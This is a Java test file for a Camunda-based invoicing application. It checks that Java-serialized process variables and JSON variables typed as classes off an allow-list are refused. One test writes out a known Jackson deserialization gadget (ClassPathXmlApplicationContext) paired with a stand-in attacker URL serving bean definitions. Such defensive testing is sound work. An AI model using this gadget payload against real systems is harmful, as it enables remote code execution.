package org.encaisse.access;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.ObjectOutputStream;
import java.util.ArrayList;
import java.util.Base64;

import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.variable.Variables;
import org.camunda.bpm.engine.variable.value.ObjectValue;
import org.encaisse.support.Api;
import org.encaisse.support.EncaisseTest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;

/** Variables that would turn into arbitrary Java objects are refused, from the REST API and from code. */
@EncaisseTest
class VariableSerializationTests {

    /** A classic Jackson gadget: built from a URL, it loads and runs the bean definitions found there. */
    private static final String GADGET = "org.springframework.context.support.ClassPathXmlApplicationContext";

    @Autowired
    Api api;

    @Autowired
    RuntimeService runtime;

    String disputeInstance;

    @BeforeEach
    void aRunningDispute() {
        String customer = api.customer();
        String invoice = api.invoice(customer, "2026-01-05", "2026-02-04", "500");
        disputeInstance = api.post("/api/disputes", "{\"invoiceNumber\": \"%s\", \"category\": \"PRICING\"}"
                .formatted(invoice)).getBody().get("processInstanceId").asText();
    }

    @Test
    void aJavaSerializedVariableIsRefused() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(new ArrayList<>(java.util.List.of("harmless, this time")));
        }
        String body = """
                {"value": "%s", "type": "Object", "valueInfo": {
                  "objectTypeName": "java.util.ArrayList", "serializationDataFormat": "application/x-java-serialized-object"}}"""
                .formatted(Base64.getEncoder().encodeToString(bytes.toByteArray()));
        ResponseEntity<String> response = put("/engine-rest/process-instance/" + disputeInstance + "/variables/payload", body);
        assertThat(response.getStatusCode().value()).as(response.getBody()).isEqualTo(400);
        assertThat(response.getBody()).contains("Java-serialized variables are refused");
        ResponseEntity<String> inModifications = post("/engine-rest/process-instance/" + disputeInstance + "/variables",
                "{\"modifications\": {\"payload\": " + body + "}}");
        assertThat(inModifications.getStatusCode().value()).isEqualTo(400);
        assertThat(inModifications.getBody()).contains("variable 'modifications.payload'");
        assertThat(runtime.getVariable(disputeInstance, "payload")).isNull();

        // Under the REST API, the engine refuses it too.
        String serialized = Base64.getEncoder().encodeToString(bytes.toByteArray());
        assertThatThrownBy(() -> runtime.setVariable(disputeInstance, "payload", Variables.serializedObjectValue(serialized)
                .objectTypeName("java.util.ArrayList").serializationDataFormat(Variables.SerializationDataFormats.JAVA).create()))
                .hasMessageContaining("Java serialization format is prohibited");
    }

    @Test
    void aJsonVariableOfATypeOffTheAllowListIsRefusedAndNeverTurnedIntoThatType() {
        String body = """
                {"value": "\\"http://attacker.example/beans.xml\\"", "type": "Object", "valueInfo": {
                  "objectTypeName": "%s", "serializationDataFormat": "application/json"}}""".formatted(GADGET);
        ResponseEntity<String> refused = put("/engine-rest/process-instance/" + disputeInstance + "/variables/payload", body);
        assertThat(refused.getStatusCode().value()).as(refused.getBody()).isEqualTo(400);
        assertThat(refused.getBody()).contains("type '" + GADGET + "' is not on the deserialization allow-list");
        assertThat(runtime.getVariable(disputeInstance, "payload")).isNull();

        // Stored by code that bypasses the API, it is still never deserialized.
        runtime.setVariable(disputeInstance, "payload", Variables.serializedObjectValue("\"http://attacker.example/beans.xml\"")
                .objectTypeName(GADGET).serializationDataFormat("application/json").create());
        assertThatThrownBy(() -> runtime.getVariable(disputeInstance, "payload"))
                .hasMessageContaining(GADGET);
        ObjectValue raw = runtime.getVariableTyped(disputeInstance, "payload", false);
        assertThat(raw.isDeserialized()).isFalse();
        assertThat(raw.getValueSerialized()).contains("attacker.example");
    }

    @Test
    void allowedTypesStillRoundTrip() {
        runtime.setVariable(disputeInstance, "note", Variables.objectValue(new ArrayList<>(java.util.List.of("a", "b")))
                .serializationDataFormat(Variables.SerializationDataFormats.JSON).create());
        assertThat(runtime.getVariable(disputeInstance, "note")).isEqualTo(java.util.List.of("a", "b"));
    }

    private ResponseEntity<String> post(String path, String json) {
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.APPLICATION_JSON);
        return api.as(Api.ADMIN, Api.ADMIN_PASSWORD).postForEntity(path, new HttpEntity<>(json, headers), String.class);
    }

    private ResponseEntity<String> put(String path, String json) {
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.APPLICATION_JSON);
        return api.as(Api.ADMIN, Api.ADMIN_PASSWORD).exchange(path, org.springframework.http.HttpMethod.PUT,
                new HttpEntity<>(json, headers), String.class);
    }
}
